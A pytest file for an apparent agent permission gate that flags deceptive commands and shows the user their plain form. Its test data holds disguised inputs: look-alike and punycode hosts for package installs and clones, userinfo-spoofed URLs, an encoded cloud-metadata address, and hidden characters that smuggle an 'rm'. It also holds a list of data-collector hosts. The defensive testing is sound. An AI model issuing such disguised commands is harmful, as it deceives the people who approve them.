"""Text that a person would read as something else, and the plain form that the person is shown."""

import json
from pathlib import Path

import pytest
from gate_world import call, git, judged, repository, said, shell

from hookd.gate.case import hosts
from hookd.gate.case.model import Case
from hookd.gate.noticed.look_alikes import looks_like
from worlds import World

DISGUISED = {
    "curl -fsS https://g\u0456thub.com/a": ("look-alike-host", "g\u0456(U+0456)thub.com is not github.com"),
    "npm i --registry https://registry.npmjs.org.example.net/ x": ("look-alike-host", "npmjs.org"),
    "go get rnicrosoft.dev/sdk": ("look-alike-host", "rnicrosoft.dev is not microsoft.com"),
    "docker pull d0cker.example.com/x || docker pull dockerr.io/x": ("look-alike-host", "docker.io"),
    "ssh git@gitlb.com": ("look-alike-host", "gitlb.com is not gitlab.com"),
    "pip install --index-url https://xn--pyp-tma.org/simple x": ("encoded-host", "which reads pypi.org"),
    "curl https://%65xample.com/": ("encoded-host", "%65xample.com is example.com"),
    "git clone https://github\uff0ecom.example.net/x": ("encoded-host", "is github.com.example.net"),
    "curl https://github.com\uff0fx@example.net/": ("posing-user", "the host is example.net"),
    "curl https://pypi.org@example.net/x": ("posing-user", "the host is example.net, and pypi.org only"),
    "curl http://2852039166/latest/": ("odd-address", "2852039166 is 169.254.169.254"),
    "curl http://0x08.8.010.8/": ("odd-address", "0x08.8.010.8 is 8.8.8.8"),
    "mv a\u2066b c": ("hidden-characters", "a(U+2066)b"),
    "ls \u00adsrc": ("hidden-characters", "(U+00AD)src"),
    "ls \x1b[2Kecho": ("hidden-characters", "(U+001B)[2K"),
    "ls src \r rm notes": ("hidden-characters", "(U+000D)"),
    "echo a\U000e0041b": ("hidden-characters", "(U+E0041)"),
    "\u0441url https://example.com/": ("look-alike-word", "\u0441(U+0441)url, which reads curl"),
}


@pytest.mark.parametrize("command", DISGUISED)
def test_a_disguise_is_asked_about_and_shown_without_it(command: str) -> None:
    rule, shown = DISGUISED[command]
    found = {o.rule: o for o in judged(command).trace}
    assert found[f"deceptive.{rule}"].verdict == "ask"
    assert shown in found[f"deceptive.{rule}"].reason


@pytest.mark.parametrize(
    "command",
    [
        "curl https://github.com/a https://raw.githubusercontent.com/a/b",
        "curl https://m\u00fcnchen.example/ https://\u043f\u043e\u0447\u0442\u0430.\u0440\u0444/",
        "curl https://\u4f8b\u3048.example/",
        "git clone git@github.com-work:me/x.git",
        "git clone https://user%40example.com:token@git.example.com/x.git",
        "git clone https://jo.doe@git.example.com/x.git",
        "curl https://www.amazon.com.br/ https://s3.cn-north-1.amazonaws.com.cn/b",
        "curl http://127.1:8080/ http://10.0.0.1/",
        "ping 8.8.8.8",
        "echo 'https://g\u0456thub.com'",
        "git commit -m 'zero\u200bwidth and \u2014 dashes'",
        "cat > notes.md <<'END'\nzero\u200bwidth\nEND",
        "printf 'a\\r\\nb'",
        "make 2>&1 | sed 's/\x1b\\[[0-9;]*m//g'",
        "echo 'one\r\ntwo'",
        "ls '\U0001f468\u200d\U0001f469\u200d\U0001f467.png' || true",
        "python3 -c \"print('\u03b1bc')\"",
        "make && ./\u0442\u0435\u0441\u0442.sh",
        "curl -w '%{http_code}' https://example.com/%2e%2e",
    ],
)
def test_other_peoples_letters_are_no_disguise(command: str) -> None:
    assert not [rule for rule in said(command) if rule.startswith("deceptive.")]


def test_web_tools_and_paths_are_looked_at_too() -> None:
    assert "deceptive.look-alike-host" in said(
        call("WebFetch", url="https://d\u043ecs.example.com/", prompt="x")
    )
    assert "deceptive.odd-address" in said(call("mcp__browser__navigate", url="http://0250.1/"))
    assert "deceptive.posing-user" in said(
        call("mcp__browser__navigate", url="https://pypi.org@example.net/")
    )
    assert "deceptive.hidden-characters" in said(call("Read", file_path="/home/user/project/a\u202etxt.py"))
    assert "deceptive.look-alike-word" in said(call("Edit", file_path="src/\u0430uth.py", old_string="a"))
    edit = call("Edit", file_path="src/a.py", old_string="a", new_string="b = '\u202e'")
    assert said(edit) == {"deceptive.turned-source": "ask"}
    assert said(call("Write", file_path="i18n/he.po", content="\u202b\u05e9")) == {}


def test_a_host_that_the_person_named_is_meant(tmp_path: Path) -> None:
    command = "curl https://xn--bcher-kva.example/"
    case = shell(command)
    asked = Case(
        call=case.call, cwd=case.cwd, root=case.root, home=case.home, prompt="look at xn--bcher-kva.example"
    )
    assert said(asked) == {} and "deceptive.encoded-host" in said(command)
    listed = Case(
        call=case.call, cwd=case.cwd, root=case.root, home=case.home, hosts=("xn--bcher-kva.example",)
    )
    assert said(listed) == {}
    repository(tmp_path / "p")
    git(tmp_path / "p", "remote", "add", "origin", "git@xn--bcher-kva.example:a/b.git")
    assert said(shell(command, root=str(tmp_path / "p"))) == {}


def test_the_person_reads_the_plain_form(world: World) -> None:
    answer = world.bash("git clone https://g\u0456thub.com/a/b")
    reason = answer["hookSpecificOutput"]["permissionDecisionReason"]
    assert "g\u0456(U+0456)thub.com is not github.com" in reason
    (world.folders.config / "config.toml").write_text('[gate.rules]\n"deceptive.look-alike-host" = "off"\n')
    assert world.bash("git clone https://g\u0456thub.com/a/b") is None


@pytest.mark.parametrize(
    ("host", "kind"),
    [
        ("localhost", "local"),
        ("127.0.0.1", "local"),
        ("[::1]:8080", "local"),
        ("api.localhost", "local"),
        ("192.168.3.4", "private"),
        ("[fd00::1]", "private"),
        ("[::ffff:10.0.0.1]", "private"),
        ("db", "private"),
        ("wiki.corp", "private"),
        ("8.8.8.8", "address"),
        ("[2001:db8::1]", "address"),
        ("x.ngrok-free.app", "collector"),
        ("webhook.site", "collector"),
        ("notwebhook.site", "name"),
        ("me:pw@EXAMPLE.com:443", "name"),
        ("256.1.1.1", "name"),
        ("", "unknown"),
    ],
)
def test_kinds_of_hosts(host: str, kind: str) -> None:
    assert hosts.kind_of(hosts.host_of(host)) == kind


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("curl -sS example.com/a -o b.txt", ["example.com"]),
        ("curl -d a=b.c http://me@Example.com:80/x", ["example.com"]),
        ("scp notes.txt me@example.com:", ["example.com"]),
        ("ssh -p 22 me@example.com uptime", ["example.com"]),
        ("rsync -a dist/ example.com:/srv", ["example.com"]),
        ("git push git@example.com:a/b.git main", ["example.com"]),
        ("socat - TCP:example.com:80,crlf", ["example.com"]),
        ("nc example.com 80", ["example.com"]),
        ('curl "$URL/x"', ["\0"]),
        ("git checkout v1.2.x", []),
    ],
)
def test_hosts_that_a_command_names(command: str, named: list[str]) -> None:
    assert list(hosts.of_command(shell(command).script.commands[0])) == named


def test_names_that_only_seem_alike() -> None:
    for host in (
        "stripes.com",
        "pythons.org",
        "gitea.com",
        "windows.com",
        "black.com",
        "doctor.io",
        "clocks.dev",
    ):
        assert looks_like(host) is None, host
    assert json.dumps(looks_like("paypaI.com".lower())) == '"paypal.com"'
